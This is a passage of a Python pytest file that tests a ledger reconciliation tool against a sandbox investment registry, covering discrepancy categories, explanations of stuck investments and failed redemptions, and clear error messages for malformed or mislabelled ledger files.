"""Reconciliation against the sandbox: known discrepancies are found exactly; a clean ledger is clean;
bad ledger files get messages naming the row and column."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest

import helpers
from helpers.core.records import Record
from helpers.data import bulk, reconcile
from helpers.data.ledger import SpreadsheetError
from helpers.ui import forms, panels
from sandbox.runner import SandboxProcess, free_port
from tests.conftest import Sandbox, uploaded
from tests.test_helpers_client import failed_redemption, invest, onboard

ROOT = Path(__file__).resolve().parents[1]
UNKNOWN = "3fa85f64-5717-4562-b3fc-2c963f66afa6"


def ledger_file(tmp_path: Path, rows: list[dict[str, Any]], name: str = "ledger.csv", **kwargs: Any) -> Path:
    path = tmp_path / name
    frame = pd.DataFrame(rows)
    if name.endswith(".xlsx"):
        frame.to_excel(path, index=False)
    else:
        frame.to_csv(path, index=False, **kwargs)
    return path


@pytest.fixture
def known_state(client: helpers.Client, sandbox: Sandbox) -> dict[str, Any]:
    """Four investors: A holds 100 (after redeeming 20), B holds 70, C has a PAID investment stuck for 10 days,
    D holds 30 and has a failed and an unknown redemption."""
    ids: dict[str, Any] = {}
    for name, units in (("A", 120), ("B", 70), ("D", 30)):
        investor_id, wallet_id = onboard(client, f"Investor {name}")
        client.investments.credit(invest(client, investor_id, wallet_id, units).id)
        ids[name] = (investor_id, wallet_id)
    client.redemptions.create(*ids["A"], 20)
    investor_c, wallet_c = onboard(client, "Investor C")
    stuck = invest(client, investor_c, wallet_c, 40)
    sandbox.admin(f"investments/{stuck.id}/status", {"status": "PAID", "changed_at": "2020-01-01T00:00:00+00:00"})
    ids["C"] = (investor_c, wallet_c)
    ids["stuck"] = stuck.id
    for outcome, units in (("failed", 5), ("unknown", 6)):
        sandbox.admin("settings", {"task_outcome": outcome})
        with pytest.raises(helpers.TaskError):
            client.redemptions.create(*ids["D"], units)
    sandbox.admin("settings", {"task_outcome": "success"})
    return ids


def test_known_discrepancies_are_found_exactly(
    client: helpers.Client, known_state: dict[str, Any], tmp_path: Path
) -> None:
    product = client.config.product_id
    a, b, c, d = (known_state[k][0] for k in "ABCD")
    path = ledger_file(
        tmp_path,
        [
            {"investor_ref": "R-A", "investor_id": a, "product_id": product, "units": 100},  # matches
            {"investor_ref": "R-B", "investor_id": b, "product_id": product, "units": 75},  # registry holds 5 fewer
            {"investor_ref": "R-C", "investor_id": c, "product_id": product, "units": 0},  # matches (nothing held)
            {"investor_ref": "R-X", "investor_id": UNKNOWN, "product_id": product, "units": 12},  # only in ledger
            # D is missing from the ledger: only in the registry (30 units)
        ],
    )
    report = reconcile.reconcile(client, reconcile.read_ledger(path), stuck_after=timedelta(days=3))
    found = report.differences[["category", "investor_id", "ledger_units", "registry_units", "difference"]]
    expected = [
        ("in_ledger_only", UNKNOWN, 12, 0, -12),
        ("in_registry_only", d, pd.NA, 30, 30),
        ("units_differ", b, 75, 70, -5),
        ("stuck", c, pd.NA, 40, pd.NA),
        ("redemption_failed", d, pd.NA, 5, pd.NA),
        ("redemption_unknown", d, pd.NA, 6, pd.NA),
    ]
    assert [tuple(None if pd.isna(v) else v for v in row) for row in found.itertuples(index=False)] == [
        tuple(None if v is pd.NA else v for v in row) for row in expected
    ]
    messages = report.differences.set_index("category")["message"]
    assert messages["units_differ"] == "The registry holds 5 units fewer than the ledger (70 against 75)."
    assert "has been paid for" in messages["stuck"]
    assert "Do not retry" in messages["redemption_unknown"]
    assert report.differences.loc[report.differences["category"] == "units_differ", "investor_ref"].item() == "R-B"
    assert report.summary()["count"].tolist() == [1, 1, 1, 0, 1, 0, 1, 1]  # (no status the documentation does not name)


def test_a_clean_ledger_gives_a_clean_report(client: helpers.Client, tmp_path: Path) -> None:
    for name, units in (("P", 10), ("Q", 25)):
        investor_id, wallet_id = onboard(client, f"Clean {name}")
        client.investments.credit(invest(client, investor_id, wallet_id, units).id)
    holdings = client.holdings()
    path = ledger_file(
        tmp_path, holdings.rename(columns={})[["investor_id", "product_id", "units"]].to_dict("records"), "clean.xlsx"
    )
    report = reconcile.reconcile(client, reconcile.read_ledger(path))
    assert report.is_clean and report.differences.empty
    assert report.headline().startswith("Clean: the registry matches the ledger for all 2")


def test_exports(client: helpers.Client, known_state: dict[str, Any], tmp_path: Path) -> None:
    path = ledger_file(
        tmp_path, [{"investor_id": known_state["B"][0], "product_id": client.config.product_id, "units": 1}]
    )
    report = reconcile.reconcile(client, reconcile.read_ledger(path))
    csv = pd.read_csv(report.to_csv(tmp_path / "out" / "r.csv"))
    assert len(csv) == len(report.differences)
    book = openpyxl.load_workbook(report.to_excel(tmp_path / "out" / "r.xlsx"))
    assert book.sheetnames == ["summary", "differences"]
    header = [cell.value for cell in book["differences"][1]]
    assert "since_utc" in header and "since" not in header  # Excel keeps no zone: the header says UTC
    for written in ("out/r.csv", "out/r.xlsx"):  # they name investors: their owner's only
        assert (tmp_path / written).stat().st_mode & 0o777 == 0o600
    assert (tmp_path / "out").stat().st_mode & 0o777 == 0o700
    assert "<table" in report.styled().to_html()


def test_sample_ledger_has_every_category_against_the_demo_seed(tmp_path: Path) -> None:
    box = SandboxProcess(port=free_port(), db_path=tmp_path / "demo.sqlite3")
    box.start()
    try:
        client = helpers.Client(helpers.load_config(base_url=box.base_url, journal_path=tmp_path / "j.sqlite3"))
        report = reconcile.reconcile(client, reconcile.read_ledger(ROOT / "samples" / "ledger_demo.csv"))
    finally:
        box.stop()
    assert report.summary().set_index("category")["count"].to_dict() == {
        "in_ledger_only": 1,
        "in_registry_only": 1,
        "units_differ": 2,
        "name_differs": 0,
        "stuck": 2,
        "status_unknown": 0,
        "redemption_failed": 1,
        "redemption_unknown": 1,
    }
    # review 93: the sample was dated 2026-11-01, before the seed's deliveries (made when the sandbox starts): Ada's
    # row said 'books of that date should show 0 units', Katherine's 'Nothing to correct in books of that date'
    causes = " ".join(report.differences["cause"].dropna())
    assert "books' date" not in causes and "The books miss this position" in causes


BAD_LEDGERS = [
    ("missing column", "investor_id,units\n" + UNKNOWN + ",5\n", "lacks the column product_id", (1, "product_id")),
    (
        "non-numeric units",
        f"investor_id,product_id,units\n{UNKNOWN},{UNKNOWN},5\n{UNKNOWN[:-1]}0,{UNKNOWN},five\n",
        "not a number of units",
        (3, "units"),
    ),
    ("fractional units", f"investor_id,product_id,units\n{UNKNOWN},{UNKNOWN},2.5\n", "has a fraction", (2, "units")),
    ("negative units", f"investor_id,product_id,units\n{UNKNOWN},{UNKNOWN},-3\n", "at least 0", (2, "units")),
    ("bad id", f"investor_id,product_id,units\nnot-an-id,{UNKNOWN},3\n", "is not an id", (2, "investor_id")),
    ("empty cell", f"investor_id,product_id,units\n{UNKNOWN},,3\n", "This cell is empty", (2, "product_id")),
    (
        "duplicate rows",
        f"investor_id,product_id,units\n{UNKNOWN},{UNKNOWN},3\n{UNKNOWN},{UNKNOWN},4\n",
        "Repeats row 2",
        (3, "investor_id, product_id"),
    ),
    (  # review 63: pandas skipped the empty line, and every later row was named one too low
        "after an empty line",
        f"investor_id,product_id,units\n{UNKNOWN},{UNKNOWN},3\n\n{UNKNOWN},0b6c3a1e-64f3-4b1f-9d3c-1f0a2b3c4d5e,1.000\n",
        "Enter it without the dot: 1000 or 1,000.",
        (4, "units"),
    ),
    (
        "wrong delimiter",
        f"investor_id|product_id|units\n{UNKNOWN}|{UNKNOWN}|3\n",
        "is the delimiter one of",
        (1, "investor_id"),
    ),
]


@pytest.mark.parametrize("name, content, text, where", BAD_LEDGERS, ids=[b[0] for b in BAD_LEDGERS])
def test_bad_ledgers_name_the_row_and_column(
    tmp_path: Path, name: str, content: str, text: str, where: tuple[int, str]
) -> None:
    path = tmp_path / "ledger.csv"
    path.write_text(content, encoding="utf-8")
    with pytest.raises(SpreadsheetError) as caught:
        reconcile.read_ledger(path)
    assert text in str(caught.value)
    problems = caught.value.to_frame()
    assert (int(problems.loc[0, "row"]), problems.loc[0, "column"]) == where


def test_semicolon_ledger_from_a_german_excel_is_read(tmp_path: Path) -> None:
    path = tmp_path / "ledger.csv"
    path.write_text(f"investor_id;product_id;units\n{UNKNOWN};{UNKNOWN};3\n", encoding="utf-8")
    assert reconcile.read_ledger(path)["units"].tolist() == [3]


def test_wrong_encoding_names_the_row(tmp_path: Path) -> None:
    path = tmp_path / "ledger.csv"
    path.write_bytes(f"investor_id,product_id,units,investor_name\n{UNKNOWN},{UNKNOWN},3,Müller\n".encode("cp1252"))
    with pytest.raises(SpreadsheetError, match=r"not UTF-8 text \(byte 0xfc in row 2\)"):
        reconcile.read_ledger(path)


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)  # (then the container's stream names, in UTF-16)
ODS = b"PK\x03\x04" + bytes(26) + b"mimetypeapplication/vnd.oasis.opendocument.spreadsheet"
OTHER_FILES = [  # review 81: a PDF was read as a one-column CSV, a PNG as text in another encoding
    ("a PDF", "ledger.pdf", b"%PDF-1.4\n1 0 obj << >> endobj\n", "ledger.pdf is a PDF document, not a spreadsheet"),
    ("a PNG", "ledger.csv", b"\x89PNG\r\n\x1a\n\x00\x00", "ledger.csv is a PNG image, not a spreadsheet"),
    ("a JPEG as .xlsx", "ledger.xlsx", b"\xff\xd8\xff\xe0\x00\x10JFIF", "ledger.xlsx is a JPEG image"),
    ("binary", "ledger.csv", b"\x7fELF\x02\x01\x00\x00\xfe\xff\x80", "ledger.csv is a binary file, not a spreadsheet"),
    ("UTF-16 text", "ledger.csv", "investor_id\tunits\n".encode("utf-16"), "ledger.csv is UTF-16 text"),
    ("UTF-16 without its mark", "ledger.csv", "investor_id,units\n".encode("utf-16-le"), "is UTF-16 text"),
    ("an encrypted workbook", "ledger.xls", OLE + "EncryptedPackage".encode("utf-16-le"), "remove the password"),
    ("an .xls named .xlsx", "ledger.xlsx", OLE + "Workbook\x00".encode("utf-16-le"), "Excel 97-2003 format (.xls"),
    ("an Office 97-2003 file", "ledger.csv", OLE + "WordDocument".encode("utf-16-le"), "is an Office 97-2003 file"),
    ("UTF-32 text", "ledger.csv", "investor_id\n".encode("utf-32"), "ledger.csv is UTF-32 text"),
    ("an OpenDocument sheet", "ledger.ods", b"PK\x03\x04\x14\x00", "in the OpenDocument (.ods) format"),
    ("an .xls", "ledger.xls", OLE + "Workbook\x00".encode("utf-16-le"), "Excel 97-2003 format (.xls"),
    ("a workbook named .csv", "ledger.csv", b"PK\x03\x04\x14\x00", "rename it to end in .xlsx"),
    ("an .ods named .xlsx", "ledger.xlsx", ODS, "ledger.xlsx is a spreadsheet in the OpenDocument (.ods) format"),
    ("a broken workbook", "ledger.xlsx", b"PK\x03\x04\x14\x00", "Could not read ledger.xlsx as an Excel workbook"),
]


@pytest.mark.parametrize("name, filename, content, said", OTHER_FILES, ids=[f[0] for f in OTHER_FILES])
def test_a_file_that_is_no_spreadsheet_is_said_as_what_it_is(
    name: str, filename: str, content: bytes, said: str
) -> None:
    with pytest.raises(SpreadsheetError) as caught:
        reconcile.read_ledger(content, filename)
    sentence = forms.error_sentence(caught.value)
    assert said in sentence, sentence
    assert ("CSV UTF-8" in sentence or ".xlsx" in sentence) and " as.xlsx" not in sentence  # what to upload instead
    assert "Error" not in sentence and "BadZip" not in sentence  # no exception's class name


def test_duplicate_rows_say_what_to_do() -> None:
    content = f"investor_id,product_id,units\n{UNKNOWN},{UNKNOWN},3\n{UNKNOWN},{UNKNOWN},4\n".encode()
    with pytest.raises(SpreadsheetError) as caught:
        reconcile.read_ledger(content, "dupes.csv")
    said = "has 1 duplicate row (listed by row): the same investor and product may stand in one row only. Keep one"
    assert said in str(caught.value)
    assert caught.value.to_frame().loc[0, "problem"] == "Repeats row 2 (the same investor and product)."


def test_a_redemptions_status_is_said_in_words() -> None:
    """Review 82: the redemption of the same units made since was said by its code ('3bbbbbbb, success')."""
    differences = pd.DataFrame([dict.fromkeys(reconcile.DETAIL_COLUMNS)])
    differences.loc[0, "category"] = "redemption_failed"

    def task(ident: str, status: str) -> dict[str, Any]:
        return {"id": ident, "status": status, "created_at": f"2026-01-0{ident[0]}T10:00:00Z"}

    states: dict[Any, Any] = {0: (task("1aaaaaaaa", "failed"), False, task("3bbbbbbbb", "success"))}
    assert (
        "was made after it: 3bbbbbbb, successful. If that"
        in reconcile.with_retries(differences, None, states).loc[0, "action"]
    )
    states = {0: (task("2aaaaaaaa", "FAILED"), True, None)}
    assert "redemption 2aaaaaaa has failed." in reconcile.with_retries(differences, None, states).loc[0, "action"]
    for status, said in (  # (review 83: each was told 'Book that one')
        ("processing", "is processing. Book nothing for it until it is successful."),
        (None, "is unknown. Book nothing for it until it is successful."),
        ("NONE", "has not started. Book nothing for it until it is successful."),
        ("unknown", "is unknown. Its outcome is unknown: book nothing for it, and ask Cashlink"),
        ("in_review", "is in review. Book nothing for it; ask Cashlink what its status means."),
    ):
        action = reconcile.with_retries(differences, None, {0: (task("2aaaaaaaa", status), True, None)}).loc[
            0, "action"
        ]
        assert f"2aaaaaaa {said}" in action, action
    later = task("3bbbbbbbb", "processing")  # review 84: a later one still processing is not booked yet
    action = reconcile.with_retries(differences, None, {0: (task("1aaaaaaaa", "failed"), False, later)}).loc[
        0, "action"
    ]
    assert (
        "3bbbbbbb, processing. If that was it done again, book that one once it is successful (nothing yet)" in action
    )


def test_a_cell_or_header_is_read_as_it_shows_without_its_invisible_characters() -> None:
    """Review 89: a soft hyphen or zero-width space in a ledger's name (a column only shown) refused the whole
    ledger; in an IBAN of an investor list, one refused its row. Each cell reads as it shows."""
    ledger = (ROOT / "samples" / "ledger_demo.csv").read_bytes()
    pasted = ledger.replace(b"Ada Lovelace", "Ada Love\u00adlace\u200b".encode(), 1).replace(
        b"investor_name", "investor\u200b_name".encode(), 1
    )
    assert reconcile.read_ledger(pasted, "books.csv").equals(reconcile.read_ledger(ledger, "books.csv"))
    template = bulk.TEMPLATE.read_bytes()
    iban = next(csv.DictReader(io.StringIO(template.decode())))["iban"].encode()
    plan = bulk.read_investors(
        template.replace(iban, iban[:4] + "\u200b".encode() + iban[4:], 1), "list.csv", placeholder_protocols=True
    )
    assert plan.valid == 1 and plan.rows[0]["investor"]["bank_account"]["iban"] == iban.decode().replace(" ", "")


def test_a_control_character_is_said_at_its_cell_in_every_column() -> None:
    """Review 83: a NUL in an unchecked column (a ledger's investor_name; a list's e-mail or tax id) was kept, and
    crashed the Excel export or would have been sent; one in the header read as the column's name on a screen."""
    ledger = (ROOT / "samples" / "ledger_demo.csv").read_bytes().replace(b"Ada Lovelace", b"Ada\x00 Lovelace", 1)
    with pytest.raises(SpreadsheetError) as caught:
        reconcile.read_ledger(ledger, "books.csv")
    problems = caught.value.to_frame()
    assert list(problems["column"]) == ["investor_name"] and "control character" in problems.loc[0, "problem"]
    template = bulk.TEMPLATE.read_bytes()
    for cell in (b"@", b"01234567890", b"T22000129", b"POSTIDENT-4711"):  # e-mail, tax id, document, process id
        plan = bulk.read_investors(template.replace(cell, b"\x01" + cell, 1), "list.csv", placeholder_protocols=True)
        assert plan.valid == 0 and "control character" in " ".join(plan.problems["problem"]), plan.problems
    with pytest.raises(SpreadsheetError, match=r"control character in column 3 \(un\?its\), shown as '\?'"):
        reconcile.read_ledger(b"investor_id,product_id,un\x00its\n", "books.csv")


def test_a_line_break_in_a_ledgers_name_is_a_space_and_nuls_in_text_are_said_at_their_cells() -> None:
    """Review 84: a multi-line name (Excel's Alt+Enter) refused the whole ledger; a small ledger with a cell padded
    with NULs was called a binary file."""
    ledger = (ROOT / "samples" / "ledger_demo.csv").read_text()
    read = reconcile.read_ledger(ledger.replace("Ada Lovelace", '"Ada\nLovelace"', 1).encode(), "books.csv")
    assert "Ada Lovelace" in set(read["investor_name"])
    read = reconcile.read_ledger(ledger.replace("Ada Lovelace", "Ada\u2028Lovelace", 1).encode(), "books.csv")
    assert "Ada Lovelace" in set(read["investor_name"])  # a line separator (U+2028) is a line break too
    padded = f"investor_id,product_id,units,investor_name\n{UNKNOWN},{UNKNOWN},3,Ada{chr(0) * 20}\n".encode()
    with pytest.raises(SpreadsheetError) as caught:
        reconcile.read_ledger(padded, "books.csv")
    assert list(caught.value.to_frame()["column"]) == ["investor_name"], caught.value


def test_a_ledger_without_rows_says_nothing_was_compared() -> None:
    report = reconcile.Reconciliation(pd.DataFrame(columns=reconcile.DETAIL_COLUMNS), 0, 0, 0)
    assert report.headline().startswith("Nothing was compared: the ledger has no rows")


def test_text_that_begins_like_another_kind_of_file_is_read_as_text() -> None:
    """Review 82: a stray NUL is said at its cell (the file was refused as binary); a first cell beginning '%PDF' or
    'GIF8' is text."""
    for first in ("%PDF-note", "GIF8 tag", "\x00"):
        content = f"investor_id,product_id,units,investor_ref\n{UNKNOWN},{UNKNOWN},3,x\n".replace(
            "investor_id", first + "investor_id", 1
        )
        with pytest.raises(SpreadsheetError) as caught:
            reconcile.read_ledger(content.encode(), "ledger.csv")
        said = "control character in column 1" if first == "\x00" else "lacks the column investor_id"
        assert said in str(caught.value), caught.value  # (read as text: its header)
    sample = (ROOT / "samples" / "investors_demo.csv").read_bytes().replace(b"Hauptstr. 1", b"Haupt\x00str. 1", 1)
    plan = bulk.read_investors(sample, "s.csv", placeholder_protocols=True)
    assert plan.valid == 17 and "street" in set(plan.problems["column"]), plan.problems


def test_panel_reconciles_an_uploaded_ledger_and_explains_a_bad_one(
    client: helpers.Client, known_state: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    panel = panels.ReconciliationPanel(client, tmp_path / "out")
    shown: list[Any] = []
    monkeypatch.setattr(panels, "display", lambda item, **_metadata: shown.append(item))
    panel.button.click()  # no ledger yet: said, not silently ignored
    assert "Upload the ledger first" in str(getattr(shown[-1], "data", shown[-1])) and panel.report is None
    good = ledger_file(
        tmp_path, [{"investor_id": known_state["B"][0], "product_id": client.config.product_id, "units": 70}]
    )
    report = panel.run(good.read_bytes(), "books.csv")
    assert report is not None and (tmp_path / "out" / "reconciliation-books.xlsx").is_file()
    said = " ".join(str(getattr(item, "data", "")) for item in shown)
    assert "The ledger <b>books.csv</b> (1 row) compared with the registry at" in said  # which ledger, and when
    assert str((tmp_path / "out").resolve()) in said and "replaced each time this ledger is reconciled" in said
    assert panel.run(b"investor_id,units\nx,1\n", "broken.csv") is None
    assert panel.report is report  # the previous report stays available
    panel.upload.value = uploaded("books.csv", good.read_bytes(), "text/csv")  # a person's upload
    assert panel.upload.value == () and panel.report is not report  # read once, kept out of the widget's state
    again = panel.report
    panel.button.click()  # the button runs the last ledger again, from the panel, not from the widget
    assert panel.report is not None and panel.report is not again
    for typed in ("2.5", "-1", "99999", "three"):  # review 46: rounded or clamped without a word
        panel.days.value = typed
        shown.clear()
        assert panel.run(good.read_bytes(), "books.csv") is None
        said = " ".join(str(getattr(item, "data", "")) for item in shown)
        assert "The report was not made: &#x27;Stuck after (days)&#x27; is " in said and "no whole number" in said
        assert "Nothing was sent" not in said  # review 50: a report sends nothing
    panel.days.value = "10"
    assert panel.run(good.read_bytes(), "books.csv") is not None


def _detail(rows: list[dict[str, object]]) -> pd.DataFrame:
    frame = pd.DataFrame([{column: None for column in reconcile.DETAIL_COLUMNS} | row for row in rows])
    return frame[reconcile.DETAIL_COLUMNS]


def _shortfall(investor: str, difference: int) -> dict[str, Any]:
    return {"category": "units_differ", "investor_id": investor, "product_id": "p", "difference": difference}


def _stuck(
    investor: str, units: int, investment: str, status: str = "PAID", cause: str = "c.", action: str = "a."
) -> dict[str, Any]:
    return {
        "category": "stuck",
        "investor_id": investor,
        "product_id": "p",
        "registry_units": units,
        "investment_id": investment,
        "status": status,
        "cause": cause,
        "action": action,
    }


def test_stuck_investments_follow_the_shortfall_they_explain() -> None:
    paid = {"cause": "Paid, not credited.", "action": "Credit it."}
    detail = _detail(
        [
            _shortfall("i1", -300),
            _shortfall("i2", -50),
            _stuck("i2", 40, "x", **paid),
            _stuck("i1", 100, "a", **paid),
            _stuck("i1", 200, "b", "ACCEPTED", "Not paid.", "Wait for the payment."),
        ]
    )
    grouped = reconcile.group_related(detail)
    assert list(zip(grouped["investor_id"], grouped["category"], grouped["investment_id"].fillna(""))) == [
        ("i1", "units_differ", ""),
        ("i1", "stuck", "a"),  # both stuck investments of i1 explain its 300 units, and follow it
        ("i1", "stuck", "b"),
        ("i2", "units_differ", ""),
        ("i2", "stuck", "x"),  # 40 of the 50 units: linked, and the 10 left said
    ]
    assert grouped["related"].tolist() == ["i1/p"] * 3 + ["i2/p"] * 2
    assert grouped["cause"][0].startswith("Explained by 2 investments of 300 units stuck (accepted, paid: a, b)")
    assert grouped["cause"][1] == (
        "Paid, not credited. With the others marked alike, it explains the 300 units fewer above."
    )
    assert grouped["cause"][3] == (  # review 50's leftover: a shortfall partly stuck was not linked at all
        "Of the 50 units fewer, 40 are 1 investment of 40 units not delivered (paid: x; see the rows below), which "
        "the books booked; 10 units of the difference remain."
    )
    assert grouped["action"][3] == "Finish the investment below: credit it; then 10 units of the difference remain."
    assert grouped["cause"][4] == "Paid, not credited. It explains 40 of the 50 units fewer above."
    mixed = reconcile.group_related(  # review 55: one unit, two steps, a status not known to be delivered
        _detail(
            [
                _shortfall("i4", -50),
                _stuck("i4", 1, "u", "SETTLED", "In status SETTLED.", "Look in Cashlink Studio."),
                {**_stuck("i4", 2, "v", **paid), "category": "status_unknown"},
            ]
        )
    )
    assert mixed["cause"][0].startswith("Of the 50 units fewer, 3 are 2 investments of 3 units not known to be")
    assert mixed["action"][0].startswith("Finish the investments below: each row says how; then 47 units of the")
    over = reconcile.group_related(_detail([_shortfall("i3", -30), _stuck("i3", 40, "y", **paid)]))
    assert over["related"].isna().all()  # 40 stuck for 30 short: the books booked some of it, no link
    assert (
        grouped["action"][0] == "Finish the stuck investments below: each row says how; the difference then disappears."
    )


def test_a_surplus_follows_the_failed_redemption_the_books_booked(
    client: helpers.Client, sandbox: Sandbox, tmp_path: Path
) -> None:
    """The books booked a redemption of 10 units that failed on the ledger: the registry holds 10 more. The
    difference names the failed redemption, and the redemption's row follows it with the same mark."""
    investor_id, wallet_id = onboard(client, "Booked Early")
    client.investments.credit(invest(client, investor_id, wallet_id, 50).id)
    failed = failed_redemption(client, sandbox, investor_id, wallet_id, 10)
    product = client.config.product_id
    path = ledger_file(tmp_path, [{"investor_id": investor_id, "product_id": product, "units": 40}])
    detail = reconcile.reconcile(client, reconcile.read_ledger(path)).differences
    mine = detail[detail["investor_id"] == investor_id].reset_index(drop=True)
    assert mine["category"].tolist() == ["units_differ", "redemption_failed"]
    assert mine["related"].tolist() == [f"{investor_id}/{product}"] * 2
    redemption_id = str(failed.task["id"])
    assert mine["cause"][0] == (
        f"Explained by a failed redemption of 10 units ({redemption_id[:8]}): the books booked it, but no units "
        "moved in the registry."
    )
    assert mine["action"][0].startswith("Reverse the redemption in the books, or try it again in notebook 04")
    assert mine["cause"][1].endswith("It explains the difference of 10 units above.")


def test_a_surplus_is_never_pinned_on_a_failed_redemption_a_retry_settled(
    client: helpers.Client, sandbox: Sandbox, tmp_path: Path
) -> None:
    """Review 41: the failed redemption was retried from this journal and the retry succeeded: a surplus of as many
    units was still said to be explained by it ('no units moved ... reverse it or try it again')."""
    investor_id, wallet_id = onboard(client, "Retried Since")
    client.investments.credit(invest(client, investor_id, wallet_id, 50).id)
    failed = failed_redemption(client, sandbox, investor_id, wallet_id, 10)
    assert client.redemptions.retry(str(failed.task["id"]))["status"] == "success"  # the registry holds 40
    product = client.config.product_id
    path = ledger_file(tmp_path, [{"investor_id": investor_id, "product_id": product, "units": 30}])  # booked twice
    detail = reconcile.reconcile(client, reconcile.read_ledger(path)).differences
    mine = detail[detail["investor_id"] == investor_id].reset_index(drop=True)
    assert mine["category"].tolist() == ["units_differ", "redemption_failed"]
    assert mine["related"].isna().all() and "Explained by" not in str(mine["cause"][0])
    assert "is success" in mine["action"][1]


def test_a_failed_redemption_a_retry_settled_is_no_difference_where_the_books_agree(
    client: helpers.Client, sandbox: Sandbox, tmp_path: Path
) -> None:
    """Review 93: the books showed what the successful retry left (40), as the registry did, and the report was
    never clean again: the failed redemption stayed a difference."""
    investor_id, wallet_id = onboard(client, "Settled Since")
    client.investments.credit(invest(client, investor_id, wallet_id, 50).id)
    failed = failed_redemption(client, sandbox, investor_id, wallet_id, 10)
    client.redemptions.retry(str(failed.task["id"]))
    path = ledger_file(tmp_path, [{"investor_id": investor_id, "product_id": client.config.product_id, "units": 40}])
    report = reconcile.reconcile(client, reconcile.read_ledger(path))
    assert investor_id not in set(report.differences["investor_id"])
    assert report.headline().endswith(
        "1 failed redemption tried again with success since, as the books show: not a difference."
    )


def test_a_surplus_is_still_explained_by_a_failed_redemption_whose_retry_has_not_ended(
    client: helpers.Client, sandbox: Sandbox, tmp_path: Path
) -> None:
    """Review 84: a retry still processing counted as settling the failed redemption, so the surplus it explains (its
    units have not moved yet) was left unexplained, and the row told to book the retry."""
    investor_id, wallet_id = onboard(client, "Retry Processing")
    client.investments.credit(invest(client, investor_id, wallet_id, 50).id)
    failed = failed_redemption(client, sandbox, investor_id, wallet_id, 10)
    sandbox.admin("settings", {"settle_delay": 3600})  # the retry stays processing
    try:
        assert client.redemptions.retry(str(failed.task["id"]), wait=False)["status"] == "processing"
        product = client.config.product_id
        path = ledger_file(tmp_path, [{"investor_id": investor_id, "product_id": product, "units": 40}])  # booked
        detail = reconcile.reconcile(client, reconcile.read_ledger(path)).differences
    finally:
        sandbox.admin("settings", {"settle_delay": 0})
    mine = detail[detail["investor_id"] == investor_id].reset_index(drop=True)
    assert mine["category"].tolist() == ["units_differ", "redemption_failed"], mine
    assert "Explained by" in str(mine["cause"][0]) or mine["related"].notna().all(), mine["cause"][0]
    assert "Book nothing for it until it is successful." in mine["action"][1], mine["action"][1]


def test_a_surplus_of_two_failed_redemptions_is_explained_by_both_when_one_was_perhaps_redone(
    client: helpers.Client, sandbox: Sandbox, tmp_path: Path
) -> None:
    """Review 43: two redemptions of 2 failed, 2 were redeemed by hand, the books booked all three: the surplus of
    4 is both failed ones. One of them counted as settled by the one by hand (only perhaps its redo): unexplained."""
    investor_id, wallet_id = onboard(client, "Twice Failed")
    client.investments.credit(invest(client, investor_id, wallet_id, 50).id)
    for reference in ("row 1", "row 2"):
        failed_redemption(client, sandbox, investor_id, wallet_id, 2, reference=reference)
    client.redemptions.create(investor_id, wallet_id, 2, reference="by hand")
    product = client.config.product_id
    path = ledger_file(tmp_path, [{"investor_id": investor_id, "product_id": product, "units": 44}])
    detail = reconcile.reconcile(client, reconcile.read_ledger(path)).differences
    mine = detail[detail["investor_id"] == investor_id].reset_index(drop=True)
    assert mine["category"].tolist() == ["units_differ", "redemption_failed", "redemption_failed"]
    assert mine["related"].notna().all() and mine["cause"][0].startswith("Explained by failed redemptions of 4 units")


def _failed(investor: str, units: int, redemption: str, since: str) -> dict[str, Any]:
    return {
        "category": "redemption_failed",
        "investor_id": investor,
        "product_id": "p",
        "registry_units": units,
        "redemption_id": redemption,
        "since": pd.Timestamp(since, tz="UTC"),
        "cause": "Refused.",
    }


def test_a_surplus_is_explained_by_failed_redemptions_that_add_up_or_by_the_latest_equal_one() -> None:
    detail = _detail(
        [
            _shortfall("i1", 30),  # (a surplus: the registry holds 30 more)
            _shortfall("i2", 20),
            _shortfall("i3", 7),
            _failed("i1", 10, "r1", "2026-01-01"),
            _failed("i1", 20, "r2", "2026-01-02"),
            _failed("i2", 20, "r3", "2026-01-01"),  # tried again, failed again: the books booked it once
            _failed("i2", 20, "r4", "2026-01-05"),
            _failed("i3", 5, "r5", "2026-01-01"),  # 5 units do not explain 7
        ]
    )
    grouped = reconcile.group_related(detail)
    assert list(zip(grouped["investor_id"], grouped["redemption_id"].fillna(""), strict=True)) == [
        ("i1", ""),
        ("i1", "r1"),
        ("i1", "r2"),
        ("i2", ""),
        ("i2", "r4"),
        ("i3", ""),
        ("i2", "r3"),
        ("i3", "r5"),
    ]
    assert grouped["related"].notna().tolist() == [True] * 5 + [False] * 3
    assert grouped["cause"][0].startswith("Explained by failed redemptions of 30 units (r1, r2): the books booked them")


def test_grouping_thousands_of_shortfalls_takes_one_pass() -> None:
    """Each shortfall looks up its own stuck rows (not the whole table): 3,000 pairs group without a quadratic cost."""
    pairs = 3000
    detail = _detail(
        [_shortfall(f"i{n}", -10) for n in range(pairs)] + [_stuck(f"i{n}", 10, f"s{n}") for n in range(pairs)]
    )
    lookups = 0
    original = pd.DataFrame.groupby

    def counted(self: pd.DataFrame, *args: object, **kwargs: object) -> object:
        nonlocal lookups
        lookups += 1
        return original(self, *args, **kwargs)

    pd.DataFrame.groupby = counted  # type: ignore[method-assign]
    try:
        grouped = reconcile.group_related(detail)
    finally:
        pd.DataFrame.groupby = original  # type: ignore[method-assign]
    assert lookups == 1  # the stuck rows are grouped once
    assert grouped["category"].tolist() == ["units_differ", "stuck"] * pairs
    assert (grouped["investor_id"][::2].to_numpy() == grouped["investor_id"][1::2].to_numpy()).all()


def test_the_sample_ledger_is_the_default_on_the_sandbox_only(
    client: helpers.Client, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """Notebook 05 without LEDGER_PATH: the sandbox's demo ledger on the sandbox; on a real registry nothing is
    compared (the upload panel starts the report), and the sample given by name is refused there."""
    import json

    parameters = next(
        "".join(cell["source"])
        for cell in json.loads((ROOT / "notebooks" / "05_reconciliation_report.ipynb").read_text())["cells"]
        if "parameters" in cell.get("metadata", {}).get("tags", [])
    )
    assert "LEDGER_PATH = None" in parameters
    sample = ROOT / "samples" / "ledger_demo.csv"
    assert reconcile.chosen_ledger(client, None) == sample
    own = ledger_file(tmp_path, [{"investor_id": UNKNOWN, "product_id": client.config.product_id, "units": 1}])
